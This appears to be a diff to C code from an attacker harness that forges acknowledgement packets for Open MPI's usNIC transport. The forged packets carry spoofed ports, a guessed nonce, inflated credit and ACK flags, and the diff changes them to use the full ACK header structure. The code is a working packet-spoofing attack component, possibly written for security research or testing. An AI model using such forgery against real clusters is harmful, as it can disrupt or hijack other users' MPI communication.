@@ -179,8 +179,9 @@ static void cross_peer(attacker_t *a, const uint8_t *g, size_t len, uint16_t spo
 static void forge_ack(attacker_t *a, const opal_btl_usnic_hdr_t *g, uint16_t sport, uint16_t dport)
 {
     int sender = port_rank(a, sport), receiver = port_rank(a, dport);
-    opal_btl_usnic_hdr_t h;
-    memset(&h, 0, sizeof(h));
+    opal_btl_usnic_ack_hdr_t ack;
+    memset(&ack, 0, sizeof(ack)); /* no selective-ACK ranges */
+    opal_btl_usnic_hdr_t h = ack.hdr;
     h.magic = htole16(OPAL_BTL_USNIC_MAGIC);
     h.version = OPAL_BTL_USNIC_PROTO_VERSION;
     h.type = OPAL_BTL_USNIC_PKT_ACK;
@@ -189,7 +190,8 @@ static void forge_ack(attacker_t *a, const opal_btl_usnic_hdr_t *g, uint16_t spo
     h.flags = OPAL_BTL_USNIC_HDR_FLAG_ACK | OPAL_BTL_USNIC_HDR_FLAG_ACK_NEW | OPAL_BTL_USNIC_HDR_FLAG_LATE_DUP;
     h.credit = htole16(4096);
     h.nonce = htole64(((uint64_t) 1 << 63) + (uint64_t) a->sent); /* fresh, as far as a guess goes */
-    send_raw(a, a->ports.port[2 * receiver], a->ports.port[2 * sender], &h, sizeof(h));
+    ack.hdr = h;
+    send_raw(a, a->ports.port[2 * receiver], a->ports.port[2 * sender], &ack, sizeof(ack));
 }
 
 /* A record of feed: ports and the genuine counter message */
